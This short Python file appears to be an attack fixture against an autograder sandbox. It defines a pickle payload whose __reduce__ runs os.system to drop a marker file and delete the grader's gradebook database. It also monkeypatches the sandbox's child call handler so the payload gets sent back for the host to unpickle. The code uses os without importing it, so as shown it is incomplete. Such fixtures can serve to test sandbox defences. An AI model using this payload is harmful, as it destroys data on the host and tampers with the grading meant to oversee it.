# %% wire
# %%
import pickle

from autograder.sandbox import child


class Bomb:
    def __reduce__(self):
        return (os.system, ("echo reached > @TREASURES@/reached; rm -f @TREASURES@/gradebook.db",))


def calls(self, asked, body):
    load = pickle.dumps(Bomb())
    return child.answers.Results([{"error": None, "form": "DataFrame", "bytes": len(load), "cpu": 0.0}] * len(asked.lengths)), load


child.Python.do_calls = calls


def parse_dates_by_source(rows):
    """Return a bomb."""
    return Bomb()
